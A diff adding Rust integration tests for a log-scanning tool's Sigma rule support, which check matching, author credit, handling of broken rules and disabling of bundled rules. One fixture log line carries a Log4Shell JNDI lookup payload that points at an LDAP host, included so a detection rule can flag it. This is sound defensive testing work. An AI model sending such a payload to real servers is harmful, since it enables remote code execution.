@@ -977,3 +977,131 @@ fn remaining_log4j_classes() {
         ids.contains(&"log4j.jndi-lookup".to_string()) && !ids.contains(&"log4j.jndi-assembled".to_string())
     );
 }
+
+// ------------------------------------------------------------------ Sigma
+
+const SIGMA_WEB: &str = r#"title: Acme Admin Probe
+id: 11111111-2222-3333-4444-555555555555
+status: test
+author: Jane Analyst
+logsource:
+    category: webserver
+detection:
+    selection:
+        cs-uri-stem|endswith: '/acme-admin.php'
+        cs-method: 'POST'
+    filter:
+        sc-status: 404
+    condition: selection and not filter
+level: high
+tags:
+    - attack.initial-access
+    - attack.t1190
+"#;
+
+const SIGMA_NO_ANCHOR: &str = r#"title: Any Server Error
+id: 22222222-2222-3333-4444-555555555555
+logsource:
+    category: webserver
+detection:
+    selection:
+        sc-status: 500
+    condition: selection
+level: low
+"#;
+
+#[test]
+fn sigma_rules_from_a_directory_match_parsed_requests_and_credit_their_author() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[
+            ("sigma/acme.yml", SIGMA_WEB.as_bytes()),
+            ("sigma/any_post.yml", SIGMA_NO_ANCHOR.as_bytes()),
+            ("sigma/broken.yml", b"title: [unclosed\n"),
+            (
+                "access.log",
+                b"192.0.2.1 - - [27/Nov/2026:14:00:00 +0000] \"POST /x/acme-admin.php HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n\
+192.0.2.1 - - [27/Nov/2026:14:00:01 +0000] \"POST /x/acme-admin.php HTTP/1.1\" 404 5 \"-\" \"curl/8\"\n\
+192.0.2.1 - - [27/Nov/2026:14:00:02 +0000] \"GET /x/acme-admin.php HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n",
+            ),
+        ],
+    );
+    let sigma = dir.path().join("sigma");
+    let log = dir.path().join("access.log");
+    let (v, _) = run_json(&["logs", log.to_str().unwrap(), "--sigma", sigma.to_str().unwrap()]);
+    let hits: Vec<&serde_json::Value> = v["bundles"][0]["log_hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|h| h["rule"] == "sigma.acme")
+        .collect();
+    // Only the POST that was not answered 404.
+    assert_eq!(hits.len(), 1, "{hits:?}");
+    assert_eq!(hits[0]["locator"]["line"], 1);
+    assert_eq!(hits[0]["severity"], "high");
+    assert_eq!(hits[0]["attack"], "T1190");
+    let credit = hits[0]["credit"].as_str().unwrap();
+    assert!(
+        credit.contains("Acme Admin Probe")
+            && credit.contains("11111111-2222-3333-4444-555555555555")
+            && credit.contains("Jane Analyst")
+            && credit.contains("Detection Rule License 1.1"),
+        "{credit}"
+    );
+    let f = v["bundles"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "log.sigma.acme")
+        .unwrap();
+    assert!(f["summary"].as_str().unwrap().contains("Jane Analyst"));
+    // `rules list` names the rules it could not use, with the reason.
+    let out = run(&["rules", "list", "--sigma", sigma.to_str().unwrap()]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("sigma.acme"), "{text}");
+    assert!(
+        text.lines().any(|l| l.contains("any_post.yml")
+            && l.contains("Any Server Error")
+            && l.contains("no literal")),
+        "{text}"
+    );
+    assert!(
+        text.lines().any(|l| l.contains("broken.yml") && l.contains("not a Sigma rule")
+            || l.contains("broken.yml") && l.contains("parse error")),
+        "{text}"
+    );
+    assert!(text.contains("process rules"), "{text}");
+    // A missing directory is an error, not silence.
+    let bad = run(&["logs", log.to_str().unwrap(), "--sigma", dir.path().join("nope").to_str().unwrap()]);
+    assert_ne!(bad.status.code(), Some(0));
+}
+
+#[test]
+fn bundled_sigma_rules_run_by_default_and_can_be_left_out() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[(
+            "access.log",
+            b"203.0.113.5 - - [27/Nov/2026:14:00:00 +0000] \"GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n",
+        )],
+    );
+    let log = dir.path().join("access.log");
+    let rules = |args: &[&str]| -> Vec<String> {
+        let mut a = vec!["logs", log.to_str().unwrap()];
+        a.extend_from_slice(args);
+        let (v, _) = run_json(&a);
+        v["bundles"][0]["log_hits"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|h| h["rule"].as_str().unwrap().to_string())
+            .collect()
+    };
+    let with = rules(&[]);
+    assert!(with.iter().any(|r| r.starts_with("sigma.web_cve_2021_44228_log4j")), "{with:?}");
+    let without = rules(&["--no-bundled-sigma"]);
+    assert!(!without.iter().any(|r| r.starts_with("sigma.")), "{without:?}");
+    assert!(without.contains(&"log4j.jndi-lookup".to_string()));
+}
